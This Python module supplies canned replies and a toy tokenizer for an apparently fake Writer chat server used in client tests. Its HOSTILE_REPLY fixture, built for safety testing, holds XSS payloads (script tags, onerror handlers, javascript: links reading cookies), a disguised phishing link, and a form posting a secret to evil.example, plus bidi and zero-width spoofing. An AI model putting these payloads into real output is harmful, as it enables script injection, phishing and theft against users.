"""Canned reply texts and the toy tokenizer of the fake Writer server.

Everything here is deterministic, so tests can compute the text they expect to receive.
"""

from __future__ import annotations

import re
from itertools import cycle, islice
from typing import Any

_WORD = re.compile(r"\s*\S+|\s+")

# Vocabulary cycled by :func:`token_stream`; includes multi-byte UTF-8 so chunk splits land inside
# characters.
_VOCAB: tuple[str, ...] = (
    "Lorem", " ipsum", " dolor", " sit", " amet", ",", " café", " au", " lait", " —",
    " 日本語", " の", " テキスト", " 🚀", " naïve", " résumé", ".", "\n\n",
    "Über", " Straße", " 👍🏽", " Ωμέγα", "!", "\n\n",
)  # fmt: skip


def tokenize(text: str, max_chars: int = 4) -> list[str]:
    """Split ``text`` into small pieces (words with their leading space, cut to ``max_chars``)."""
    out: list[str] = []
    for match in _WORD.finditer(text):
        word = match.group()
        out.extend(word[i : i + max_chars] for i in range(0, len(word), max_chars))
    return out


def token_stream(n: int) -> list[str]:
    """``n`` tokens cycled from a fixed vocabulary (their ``"".join`` is the reply text)."""
    return list(islice(cycle(_VOCAB), n))


def message_text(content: Any) -> str:
    """Text of a message ``content``: a string, or an array of ``{"type": "text"}`` parts."""
    if isinstance(content, str):
        return content
    if isinstance(content, list):
        return "".join(
            str(part.get("text", ""))
            for part in content
            if isinstance(part, dict) and part.get("type") == "text"
        )
    return ""


def last_user_text(messages: Any) -> str:
    """Text of the last ``user`` message ("" if none)."""
    if isinstance(messages, list):
        for message in reversed(messages):
            if isinstance(message, dict) and message.get("role") == "user":
                return message_text(message.get("content"))
    return ""


def prompt_token_count(messages: Any) -> int:
    """A rough prompt token count for ``usage``."""
    if not isinstance(messages, list):
        return 0
    return sum(
        len(tokenize(message_text(m.get("content")))) + 3 for m in messages if isinstance(m, dict)
    )


def echo_reply(prompt: str) -> str:
    """The default reply: an echo of the prompt, a Markdown paragraph and a fenced code block."""
    return (
        f"Echo: {prompt}\n\n"
        "This is the **fake Writer** server. It talks about a café, writes 日本語 and sends an "
        "emoji 🚀 so that multi-byte characters cross chunk boundaries.\n\n"
        "```python\n"
        "def greet(name: str) -> str:\n"
        '    return f"Hello, {name}!"\n'
        "```\n"
    )


MARKDOWN_REPLY = """\
# A rich Markdown reply

Some **bold**, some *italic*, some ~~struck~~ text, `inline code` and a [link to Writer](https://writer.com).

## A table

| Model | Context | Notes |
|:------|-------:|:-----:|
| palmyra-x5 | 1,000,000 | vision, tools |
| palmyra-x4 | 128,000 | tools |
| palmyra-fin | 128,000 | finance — café ☕ |

## Lists

1. First step
2. Second step
   - nested bullet
   - another with `code`
3. Third step

- [x] done item
- [ ] open item

> A block quote, with a second line
> and a footnote-ish remark.

### Python

```python
from dataclasses import dataclass


@dataclass
class Point:
    x: float
    y: float

    def norm(self) -> float:
        return (self.x**2 + self.y**2) ** 0.5
```

### Rust

```rust
fn main() {
    let words = vec!["日本語", "café", "🚀"];
    for w in &words {
        println!("{w} has {} bytes", w.len());
    }
}
```

---

That's all. Autolink: <https://example.com/docs>, bare: https://dev.writer.com or www.writer.com.
"""

HOSTILE_REPLY = """\
# Hostile content (safety test)

<script>alert('xss from script tag')</script>

<img src="https://example.com/tracker.png" onerror="alert('img onerror')">

![remote image](https://example.com/pixel.gif?user=you)

[javascript link](javascript:alert(document.cookie)) and [file link](file:///etc/passwd)

[data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)

<a href="javascript:alert('raw html link')">raw HTML link</a>

<iframe src="https://example.com/frame"></iframe>

<style>body { display: none !important; }</style>

<div onclick="alert('div')" style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</div>

[https://writer.com](https://evil.example/phish) — the text and the target differ.

<form action="https://evil.example/steal"><input name="key" value="secret"></form>

Bidi override: \u202etxt.exe\u202c and zero-width: pay\u200bpal

HTML entities: &lt;b&gt;not bold&lt;/b&gt; &amp; &#x3C;script&#x3E;

`<b>inside inline code</b>` and <b>real bold tag</b>

<!-- an HTML comment -->

```html
<script>alert('inside a code block is fine')</script>
```
"""

HELP_REPLY = """\
**Fake Writer magic prompts** (send as the whole message):

- `/tokens N` — stream N tokens
- `/slow TPS [N]` — trickle N tokens (default 200) at TPS tokens per second
- `/pace TPS [N]` — N tokens (default 10000) at TPS per second, each event in one write
- `/error CODE` — answer with Writer's error body (400 401 403 404 408 409 413 422 429 500 503 504)
- `/guardrail` — 400 `fail.guardrail.blocked`
- `/ratelimit [SECONDS]` — 429 with `Retry-After`
- `/cut N [reset|close|end]` — cut the stream after N bytes
- `/stall SECONDS [resume|end|close]` — go silent after a few chunks
- `/keepalive SECONDS` — send only `: keep-alive` comments
- `/length`, `/filter` — finish with `length` / `content_filter`
- `/streamerror`, `/dataerror`, `/malformed` — errors inside the stream
- `/done`, `/whole` — end with `data: [DONE]` / send the body in one write
- `/markdown`, `/hostile` — rich Markdown / unsafe HTML and links
- `/help` — this list
"""
